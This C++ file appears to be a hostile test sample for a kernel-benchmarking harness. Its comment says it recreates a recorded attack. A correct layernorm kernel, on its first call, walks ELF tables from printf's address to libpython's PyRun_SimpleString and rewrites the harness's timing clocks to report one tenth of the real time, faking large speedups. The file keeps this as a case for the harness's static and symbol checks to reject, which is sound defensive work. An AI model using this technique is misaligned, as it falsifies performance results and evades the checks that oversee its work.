// Hostile: issue 37's attack in our words. From the address of printf (an allowed function) back to libc's ELF
// header, libc's dynamic section and symbol table to dl_iterate_phdr, every loaded library's symbol table to the
// interpreter's PyRun_SimpleString; on its first call it would rewrite the worker's clock so that its own samples
// are divided by ten (the H200 run of issue 37 showed 0.0 us and 2809x over torch.compile). It computes correctly.
// Rejected before any worker loads it: by the static rules (printf's address cast to an integer, ELF structure
// names, a symbol's name in a string) and, built without them, by the symbol check (printf's address taken as data).
#include <cstdint>
#include <cstdio>
#include <cstring>

typedef struct { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff;
                 uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; } Elf64_Ehdr;
typedef struct { uint32_t p_type, p_flags; uint64_t p_offset, p_vaddr, p_paddr, p_filesz, p_memsz, p_align; } Elf64_Phdr;
typedef struct { int64_t d_tag; union { uint64_t d_val, d_ptr; } d_un; } Elf64_Dyn;
typedef struct { uint32_t st_name; unsigned char st_info, st_other; uint16_t st_shndx; uint64_t st_value, st_size; } Elf64_Sym;
enum { DT_NULL = 0, DT_STRTAB = 5, DT_SYMTAB = 6, PT_DYNAMIC = 2 };

struct phdr_info { uint64_t addr; const char* name; const Elf64_Phdr* phdr; uint16_t phnum; };
struct wanted { const char* name; void* got; };

static void* symbol_in(uintptr_t base, const Elf64_Dyn* dyn, const char* name) {
    const Elf64_Sym* sym = nullptr; const char* str = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        uintptr_t v = dyn->d_un.d_ptr; if (v < base) v += base;
        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym*)v;
        if (dyn->d_tag == DT_STRTAB) str = (const char*)v;
    }
    for (const Elf64_Sym* s = sym; s && (const char*)s < str; ++s)
        if (s->st_name && s->st_value && strcmp(str + s->st_name, name) == 0) return (void*)(base + s->st_value);
    return nullptr;
}

static void* libc_fn(const char* name) {
    uintptr_t base = (uintptr_t)(void*)&printf & ~(uintptr_t)4095;
    while (memcmp((const void*)base, "\x7f" "ELF", 4) != 0) base -= 4096;
    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
    const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->phoff);
    for (int i = 0; i < eh->phnum; ++i) if (ph[i].p_type == PT_DYNAMIC)
        return symbol_in(base, (const Elf64_Dyn*)(base + ph[i].p_vaddr), name);
    return nullptr;
}

static int each(phdr_info* info, size_t, void* data) {
    wanted* w = (wanted*)data;
    if (!info->name || !strstr(info->name, "libpython")) return 0;
    for (int i = 0; i < info->phnum; ++i) if (info->phdr[i].p_type == PT_DYNAMIC)
        w->got = symbol_in(info->addr, (const Elf64_Dyn*)(info->addr + info->phdr[i].p_vaddr), w->name);
    return w->got != nullptr;
}

static void* python_fn(const char* name) {
    typedef int (*iterate_t)(int (*)(phdr_info*, size_t, void*), void*);
    wanted w{name, nullptr};
    iterate_t iterate = (iterate_t)libc_fn("dl_iterate_phdr");
    if (iterate) iterate(each, &w);
    return w.got;
}

static int patched = 0;

extern "C" int forward(const float* x, const float* weight, const float* bias, float* out,
                       int64_t B, int64_t N, float eps, void* workspace, int64_t workspace_bytes) {
    if (!patched) {
        patched = 1;
        typedef int (*ensure_t)(void); typedef void (*release_t)(int); typedef int (*run_t)(const char*);
        ensure_t ensure = (ensure_t)python_fn("PyGILState_Ensure");
        release_t release = (release_t)python_fn("PyGILState_Release");
        run_t run = (run_t)python_fn("PyRun_SimpleString");
        int rc = -2;
        if (ensure && release && run) {
            int g = ensure();
            rc = run("import sys\n"
                     "for m in list(sys.modules.values()):\n"
                     "    for n in ('CpuClock', 'CudaClock'):\n"
                     "        c = getattr(m, n, None)\n"
                     "        if isinstance(c, type) and hasattr(c, 'samples'):\n"
                     "            c.samples = property(lambda self: [t / 10 for t in self.__dict__.get('_s', [])])\n");
            release(g);
        }
        fprintf(stderr, "PROBE pyrun=%d\n", rc);
    }
    for (int64_t r = 0; r < B; ++r) {
        const float* row = x + r * N;
        double s = 0, q = 0;
        for (int64_t i = 0; i < N; ++i) s += row[i];
        const double m = s / N;
        for (int64_t i = 0; i < N; ++i) q += (row[i] - m) * (row[i] - m);
        const double rs = 1.0 / __builtin_sqrt(q / N + eps);
        for (int64_t i = 0; i < N; ++i) out[r * N + i] = (float)((row[i] - m) * rs) * weight[i] + bias[i];
    }
    return 0;
}
